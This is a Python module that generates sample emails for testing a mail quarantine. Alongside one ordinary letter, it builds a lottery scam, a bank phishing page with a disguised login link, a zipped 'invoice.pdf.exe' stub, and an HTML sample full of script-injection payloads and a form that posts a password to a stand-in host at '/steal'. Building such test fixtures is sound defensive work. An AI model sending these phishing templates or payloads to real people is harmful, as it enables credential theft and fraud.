"""Sample mail for whoever tries the laptop's installation: what a quarantine is there for, and what it must let through."""

from __future__ import annotations

import base64
import enum
import io
import zipfile
from collections.abc import Callable
from datetime import datetime
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid

LETTER = """\
Hello,

here are the notes of this morning's meeting: the move to the new office is on Friday, and Anna brings the keys. Could you tell me
until Wednesday which of the boxes are yours?

Thank you, and see you then
Maria
"""
LOTTERY = """\
CONGRATULATIONS!!! You have been SELECTED as the winner of $1,500,000.00 USD in our online lottery.

Click here NOW to claim your prize: http://192.0.2.66/claim?winner=you
Cheap VIAGRA and CIALIS, no prescription, 100% FREE trial, act now, limited time offer!!!
Send your bank account, your date of birth and a transfer fee of $250 by Western Union to Barrister Dr. Williams.

To be removed reply with REMOVE in the subject.
"""
BANK = """\
<html><body bgcolor="#eef1f4"><table width="560" align="center" bgcolor="#ffffff" cellpadding="24"><tr><td>
<img src="http://pictures.bank.example/logo.png?to=you" width="180" height="40" alt="Bank of Example">
<h2 style="color:#0b3a66;font-family:Arial">Your account has been limited</h2>
<p>Dear customer,</p><p>we have noticed an unusual log-in. To restore your access please verify your password and your card number within
<b>24 hours</b>, or your account will be suspended.</p>
<p><a href="http://192.0.2.66/secure/login.php">https://www.bank.example/login</a></p>
<p><a href="http://192.0.2.66/secure/login.php" style="background-color:#c00;color:#fff;padding:10px 24px">Verify now</a></p>
<p style="font-size:11px;color:#667">Security department. This message was sent automatically.</p></td></tr></table></body></html>
"""
TRICKS = """\
<html><head><base href="http://192.0.2.66/"><meta http-equiv="refresh" content="1;url=http://192.0.2.66/"><link rel="stylesheet"
href="http://192.0.2.66/x.css"><style>body{display:none}@import url(http://192.0.2.66/y.css);</style></head>
<body onload="alert(1)"><script>alert(document.cookie)</script><svg onload="alert(2)"></svg>
<div style="position:fixed;top:0;left:0;width:4000px;height:4000px;background:url(http://192.0.2.66/z.png)">VERIFY YOUR ACCOUNT!!! Click here</div>
<img src="http://192.0.2.66/pixel.gif" onerror="alert(3)"><a href="javascript:alert(4)">Claim your prize now</a>
<form action="http://192.0.2.66/steal"><input name="password" type="password"><button>Log in</button></form>
<iframe src="http://192.0.2.66/frame"></iframe><table width="90000"><tr><td>free money, free money, free money</td></tr></table></body></html>
"""


class Sample(enum.StrEnum):
    """What can be sent."""

    LETTER = "letter"
    LOTTERY = "lottery"
    BANK = "bank"
    PROGRAM = "program"
    TRICKS = "tricks"


def sample(kind: Sample, *, to: str, now: datetime) -> tuple[str, bytes]:
    """(envelope sender, message with CRLF line ends)."""
    sender, subject, fill = _SAMPLES[kind]
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    message["Subject"] = subject
    message["Date"] = format_datetime(now)
    message["Message-ID"] = make_msgid(domain="sample.example")
    fill(message)
    return sender.rpartition("<")[2].rstrip(">"), message.as_bytes().replace(b"\r\n", b"\n").replace(
        b"\n", b"\r\n"
    )


def _letter(message: EmailMessage) -> None:
    message.set_content(LETTER)


def _lottery(message: EmailMessage) -> None:
    message.set_content(LOTTERY)


def _bank(message: EmailMessage) -> None:
    message.set_content(BANK, subtype="html")


def _program(message: EmailMessage) -> None:
    message.set_content(
        "URGENT: your invoice is overdue. Open the attached file NOW to avoid legal action.\n"
    )
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("invoice.pdf.exe", b"MZ" + bytes(200))
    message.add_attachment(
        packed.getvalue(), maintype="application", subtype="zip", filename="invoice_2026.pdf.zip"
    )


def _tricks(message: EmailMessage) -> None:
    message.set_content(base64.b64encode(b"nothing").decode() + "\n")
    message.add_alternative(TRICKS, subtype="html")


_SAMPLES: dict[Sample, tuple[str, str, Callable[[EmailMessage], None]]] = {
    Sample.LETTER: ("Maria <maria@example.com>", "Notes, and the boxes", _letter),
    Sample.LOTTERY: (
        "Lottery Board <winner@lottery.example>",
        "!!! YOU HAVE WON !!! claim $$$ NOW",
        _lottery,
    ),
    Sample.BANK: (
        "Bank of Example <security@bank-alerts.example>",
        "Verify your account within 24 hours",
        _bank,
    ),
    Sample.PROGRAM: (
        "Accounts <billing@invoices.example>",
        "URGENT: overdue invoice, open at once",
        _program,
    ),
    Sample.TRICKS: ("Support <prize@winners.example>", "FREE MONEY!!! Claim your prize", _tricks),
}
